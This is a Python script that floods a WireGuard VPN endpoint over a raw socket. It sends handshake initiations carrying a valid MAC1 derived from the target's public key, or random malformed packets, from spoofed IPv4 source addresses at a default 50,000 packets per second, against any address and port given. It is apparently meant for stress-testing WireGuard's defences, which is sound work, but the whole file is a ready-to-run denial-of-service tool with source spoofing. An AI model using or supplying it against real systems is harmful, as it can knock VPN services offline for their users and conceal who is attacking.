"""Handshake initiations with a right MAC1 from spoofed IPv4 sources, sent by a raw socket.

`flood.py PUBLIC_KEY ADDRESS PORT SECONDS [RATE]` sends to ADDRESS:PORT from random sources in
198.51.100.0/24 and prints how many. `flood.py --garbage ...` sends random bytes of random
length instead. The message layout is that of the WireGuard paper, section 5.4.2.
"""

import base64
import hashlib
import os
import random
import socket
import struct
import sys
import time


def initiation(mac1_key, rng):
    body = b"\x01\0\0\0" + rng.randbytes(4 + 32 + 48 + 28)
    mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
    return body + mac1 + bytes(16)


def garbage(rng):
    data = rng.randbytes(rng.choice([0, 1, 3, 4, 16, 31, 32, 92, 147, 148, 149, 1400]))
    if data and rng.random() < 0.7:
        data = bytes([rng.randint(1, 4), 0, 0, 0])[: len(data)] + data[4:]
    return data


def packet(dst, port, payload, rng):
    src = bytes([198, 51, 100, rng.randint(1, 254)])
    udp = struct.pack("!HHHH", rng.randint(1024, 65535), port, 8 + len(payload), 0)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, src, dst)
    return head + udp + payload


def main(argv):
    make_garbage = argv[0] == "--garbage"
    if make_garbage:
        argv = argv[1:]
    key, address, port, seconds = argv[0], argv[1], int(argv[2]), float(argv[3])
    rate = float(argv[4]) if len(argv) > 4 else 50000.0
    public = base64.b64decode(key)
    mac1_key = hashlib.blake2s(b"mac1----" + public).digest()
    rng = random.Random(os.getpid())
    dst = socket.inet_aton(address)
    make = (lambda: garbage(rng)) if make_garbage else (lambda: initiation(mac1_key, rng))
    packets = [packet(dst, port, make(), rng) for _ in range(4096)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start, sent = time.monotonic(), 0
    while (now := time.monotonic() - start) < seconds:
        if sent > now * rate:
            time.sleep(0.001)
            continue
        for _ in range(32):
            try:
                raw.sendto(packets[sent % len(packets)], (address, 0))
            except OSError:
                pass
            sent += 1
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1:])
